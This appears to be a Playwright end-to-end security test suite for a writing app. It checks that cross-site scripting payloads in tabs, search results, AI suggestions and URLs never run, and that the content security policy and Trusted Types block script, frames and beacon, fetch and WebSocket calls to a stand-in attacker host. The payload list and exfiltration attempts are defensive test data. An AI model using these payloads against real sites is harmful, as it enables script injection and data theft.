import { randomUUID } from 'node:crypto'
import type { Page } from '@playwright/test'
import { area, expect, openTools, ready, saved, strip, test, tool } from '../support/e2e/writing.ts'
import { writePart } from '../support/long-form.ts'

// The words of an attacker in all places of the real product that show words, in a real browser. They must never run,
// never make a request, and never become a link to anything but a page.

const payloads = [
  '<img src="https://evil.example.com/x" onerror="owned=1">',
  '"><svg/onload=owned=1>',
  '<script>owned=1</script>',
  '</textarea></title></style><iframe srcdoc="<script>parent.owned=1</script>">',
  '[link](javascript:owned=1) javascript:owned=1',
  '{{constructor.constructor("owned=1")()}}',
  '\u202e<style>*{display:none}</style>\u2066',
]
const hostile = payloads.join(' ')

declare global {
  var owned: number | undefined
}

/** The requests that reach the attacker's server. */
async function watchForLeaks(page: Page): Promise<string[]> {
  const leaks: string[] = []
  await page.context().route(/evil\.example\.com/, async (route) => {
    leaks.push(route.request().url())
    await route.abort()
  })
  page.on('dialog', (dialog) => leaks.push(dialog.message()))
  return leaks
}

async function isUntouched(page: Page, leaks: string[]): Promise<void> {
  expect(await page.evaluate(() => globalThis.owned)).toBeUndefined()
  expect(leaks).toEqual([])
  const odd =
    'script:not([src]), iframe, object, embed, base, img[src*="evil"], a[href^="javascript" i], [onerror], [onload]'
  await expect(page.locator(odd)).toHaveCount(0)
}

test('hostile words stay words in every place that shows them', async ({ page, email, server, outbox }) => {
  let places = 0
  // This journey opens all panels.
  test.slow()
  const leaks = await watchForLeaks(page)

  await test.step('in tabs, their titles and the history', async () => {
    await addHostileTabs(server.origin, email, () => outbox.codeFor(email))
    await page.reload()
    await ready(page)
    // The open text is shown before the list of tabs is loaded. There are a tab of today, one for each payload and one
    // with all payloads.
    await expect(strip(page).getByRole('tab')).toHaveCount(payloads.length + 2)
    for (const tab of await strip(page).getByRole('tab').all()) {
      await tab.click()
      await isUntouched(page, leaks)
      places++
    }
    await expect(area(page)).toContainText('<script>owned=1</script>')
    await openTools(page)
    await page.getByRole('button', { name: /^Writing History/ }).click()
    const history = page.getByRole('dialog', { name: 'Writing History' })
    await expect(history.getByText('<img src=').first()).toBeVisible()
    await history.getByRole('searchbox').fill('<script>')
    await expect(history.getByRole('listitem').first()).toContainText('<script>')
    await isUntouched(page, leaks)
    places++
    await page.keyboard.press('Escape')
  })

  await test.step('in what search engines answer', async () => {
    const link = { title: hostile, link: 'https://example.org/' }
    const hit = { ...link, displayed_link: hostile, snippet: hostile, rank: 1, extended_sitelinks: [link] }
    // A reply with a link to a script is refused as a whole.
    let links = ['javascript:owned=1', 'https://example.org/']
    await page.route('**/api/search', (route) =>
      route.fulfill({
        json: {
          engine: { engine: 'wikipedia', name: 'Wikipedia' },
          search_information: { total_results: 2 },
          menu_items: [link],
          organic_results: links.slice(0, 1).map((address) => ({ ...hit, link: address })),
          peopleAlsoAskedFor: [{ question: hostile, answers: [hostile], link: '' }],
          ads: [link],
          pagination: {},
        },
      }),
    )
    await tool(page, 'Search Wikipedia').click()
    const search = page.getByRole('dialog', { name: 'Wikipedia' })
    await search.getByPlaceholder('Search Wikipedia...').fill(payloads[0] ?? '')
    await page.keyboard.press('Enter')
    await expect(search.getByRole('alert')).toContainText('Failed to search')
    links = links.slice(1)
    await search.getByRole('button', { name: 'Try again' }).click()
    await expect(search.getByText('<script>owned=1</script>').first()).toBeVisible()
    await isUntouched(page, leaks)
    places++
    await page.keyboard.press('Escape')
  })

  await test.step('in what models answer', async () => {
    const issue = {
      type: 'clarity',
      text: 'My',
      startIndex: 0,
      endIndex: 2,
      suggestion: hostile,
      reason: hostile,
    }
    const engine = { engine: 'model', name: hostile }
    await page.route('**/api/ai/analysis', (route) =>
      route.fulfill({
        json: {
          success: true,
          engine,
          analysis: {
            overallFeedback: hostile,
            readabilityScore: 5,
            issuesFound: [issue],
            scientificInsight: hostile,
            generalImprovement: hostile,
          },
        },
      }),
    )
    await tool(page, 'Get writing suggestions').click()
    const suggestions = page.getByRole('dialog', { name: 'Writing Suggestions' })
    await expect(suggestions.getByText('<script>owned=1</script>').first()).toBeVisible()
    await isUntouched(page, leaks)
    places++
    await page.keyboard.press('Escape')

    await page.route('**/api/ai/rephrasing', (route) =>
      route.fulfill({
        contentType: 'application/x-ndjson',
        body: [{ type: 'start', engine }, { type: 'text', text: hostile }, { type: 'done' }]
          .map((event) => `${JSON.stringify(event)}\n`)
          .join(''),
      }),
    )
    await openTools(page)
    await page.getByRole('button', { name: /^Rephrase with AI/ }).click()
    const bar = page.getByRole('toolbar', { name: /review/i })
    await expect(bar).toBeVisible()
    await isUntouched(page, leaks)
    places++
    await bar.getByRole('button', { name: /^Accept/ }).click()
    await expect(area(page)).toContainText('<script>owned=1</script>')
    await saved(page)
  })

  await test.step('in addresses and names of files', async () => {
    for (const path of [
      `/%3Cscript%3Eowned=1%3C/script%3E`,
      `/?q=${encodeURIComponent(hostile)}#/${hostile}`,
      '/x.svg',
    ]) {
      const reply = await page.request.get(path)
      expect(await reply.text()).not.toContain('owned')
      expect(reply.headers()['x-content-type-options']).toBe('nosniff')
    }
    await page.goto(`/#/${encodeURIComponent(hostile)}`)
    // The script of the landing page is running by then.
    await expect(page.locator('.reveal[data-seen]').first()).toBeVisible()
    await isUntouched(page, leaks)
    places++
  })

  writePart('hostile words, in a browser', {
    payloads: payloads.length,
    'places that showed them': places,
    'requests that got out': leaks.length,
  })
})

test('the content security policy stops what gets onto the page nevertheless', async ({
  page,
  complaints,
}) => {
  complaints.allow(
    /Content Security Policy|Content-Security-Policy|violates|Refused to|Failed to (load|fetch)|Framing/i,
  )
  complaints.allow(/third party: https:\/\/evil\.example\.com/)
  const leaks = await watchForLeaks(page)
  await loadWithoutTrustedTypes(page)

  const stopped = await page.evaluate(async () => {
    const violated = new Set<string>()
    document.addEventListener('securitypolicyviolation', (event) => violated.add(event.effectiveDirective))
    const element = (html: string) => document.body.insertAdjacentHTML('beforeend', html)
    const script = (change: (script: HTMLScriptElement) => void) => {
      const made = document.createElement('script')
      change(made)
      document.body.append(made)
    }
    const evil = 'https://evil.example.com'
    const attempts: (() => void)[] = [
      () => script((made) => Object.assign(made, { textContent: 'owned = 1' })),
      () => script((made) => Object.assign(made, { src: `${evil}/x.js` })),
      () => script((made) => Object.assign(made, { src: 'data:text/javascript,owned=1' })),
      () => element('<img src="/none.png" onerror="owned=1">'),
      () => element(`<img src="${evil}/x.png">`),
      () => element(`<style>body { color: red }</style><p style="color: red"></p>`),
      () => element(`<link rel="stylesheet" href="${evil}/x.css">`),
      () =>
        element(`<iframe src="${evil}/"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe>`),
      () => element(`<object data="${evil}/x"></object><video src="${evil}/x.mp4"></video>`),
      () =>
        element(`<base href="${evil}/"><iframe name="sink"></iframe>
        <form id="out" target="sink" action="${evil}/"></form>`),
      () => (document.getElementById('out') as HTMLFormElement).submit(),
      () => void fetch(`${evil}/?q=words`).catch(() => {}),
      () => void navigator.sendBeacon(`${evil}/`, 'words'),
      () => void new WebSocket('wss://evil.example.com/'),
      () => void new Worker(URL.createObjectURL(new Blob(['self.owned=1']))),
      () => void new Function('owned = 1')(),
      // biome-ignore lint/security/noGlobalEval: the test checks whether it runs.
      () => void globalThis.eval('owned = 1'),
    ]
    for (const attempt of attempts) {
      // In a task of its own, because code that a debugger evaluates may be exempt from the policy.
      await new Promise<void>((done) => {
        setTimeout(() => {
          try {
            attempt()
          } catch {
            // Some violations are thrown at once.
          }
          requestAnimationFrame(() => done())
        })
      })
    }
    return { attempts: attempts.length, violated: [...violated] }
  })

  await expect(page.locator('#root > *').first()).toBeVisible()
  expect(await page.evaluate(() => globalThis.owned)).toBeUndefined()
  expect(leaks).toEqual([])
  for (const directive of [
    'script-src-elem',
    'script-src-attr',
    'script-src',
    'style-src-elem',
    'style-src-attr',
    'img-src',
    'connect-src',
    'frame-src',
    'base-uri',
    'form-action',
    'worker-src',
  ]) {
    expect(stopped.violated).toContain(directive)
  }
  writePart('the content security policy, in a browser', {
    attempts: stopped.attempts,
    'directives that stopped them': stopped.violated.length,
    'requests that got out': leaks.length,
  })
})

/**
 * Loads the page as in a browser without Trusted Types, which would stop most attempts before the rest of the policy.
 */
async function loadWithoutTrustedTypes(page: Page): Promise<void> {
  await page.route(/\/$/, async (route) => {
    const reply = await route.fetch()
    const headers = reply.headers()
    const policy = headers['content-security-policy'] ?? ''
    expect(policy).toContain('trusted-types')
    const older = policy.replaceAll(/; (require-)?trusted-types[^;]*/g, '')
    await route.fulfill({ response: reply, headers: { ...headers, 'content-security-policy': older } })
  })
  await page.reload()
  await ready(page)
}

test('no text becomes HTML, code or the address of a script', async ({ page, complaints }) => {
  complaints.allow(/Trusted(HTML|Script)|TrustedScriptURL|Trusted Type|Content Security Policy|violates/i)
  const refused = await page.evaluate(async (html) => {
    const attempts: Record<string, () => void> = {
      'an element': () => Object.assign(document.createElement('p'), { innerHTML: html }),
      'beside an element': () => document.body.insertAdjacentHTML('beforeend', html),
      'a page': () => document.write(html),
      'a parser': () => void new DOMParser().parseFromString(html, 'text/html'),
      'a fragment': () => void document.createRange().createContextualFragment(html),
      'a frame': () => Object.assign(document.createElement('iframe'), { srcdoc: html }),
      'a script of text': () => Object.assign(document.createElement('script'), { text: 'owned = 1' }),
      'a script of this server': () => Object.assign(document.createElement('script'), { src: '/healthz' }),
      'a worker of this server': () => void new Worker('/theme.js'),
      'a worker of somebody else': () => void new Worker('https://evil.example.com/assets/a.js'),
      'another policy': () =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
        ).trustedTypes.createPolicy('another', {}),
    }
    const names: string[] = []
    for (const [name, attempt] of Object.entries(attempts)) {
      // In a task of its own, because code that a debugger evaluates may be exempt from the policy.
      await new Promise<void>((done) => {
        setTimeout(() => {
          try {
            attempt()
          } catch (error) {
            if (error instanceof TypeError) names.push(name)
          }
          done()
        })
      })
    }
    return { refused: names, all: Object.keys(attempts) }
  }, payloads.join(''))
  expect(refused.refused).toEqual(refused.all)
  expect(await page.evaluate(() => globalThis.owned)).toBeUndefined()
})

/**
 * Adds tabs as another program of the same writer would, with titles and texts that the page might not accept as
 * typing.
 */
async function addHostileTabs(origin: string, email: string, nextCode: () => Promise<string>): Promise<void> {
  const call = async (method: string, path: string, body: unknown, token = '') => {
    const headers = { 'content-type': 'application/json', authorization: `Bearer ${token}` }
    const reply = await fetch(origin + path, { method, headers, body: JSON.stringify(body) })
    if (!reply.ok) throw new Error(`${path}: ${reply.status}`)
    return (await reply.json()) as { access_token: string }
  }
  await call('POST', '/auth/v1/otp', { email })
  const { access_token } = await call('POST', '/auth/v1/verify', {
    email,
    token: await nextCode(),
    type: 'email',
  })
  const writing_date = new Date().toLocaleDateString('sv')
  for (const payload of [...payloads, `My ${hostile}`]) {
    const tab = { title: payload.slice(0, 200), content: payload, writing_date }
    await call('PUT', `/api/tabs/${randomUUID()}`, tab, access_token)
  }
}
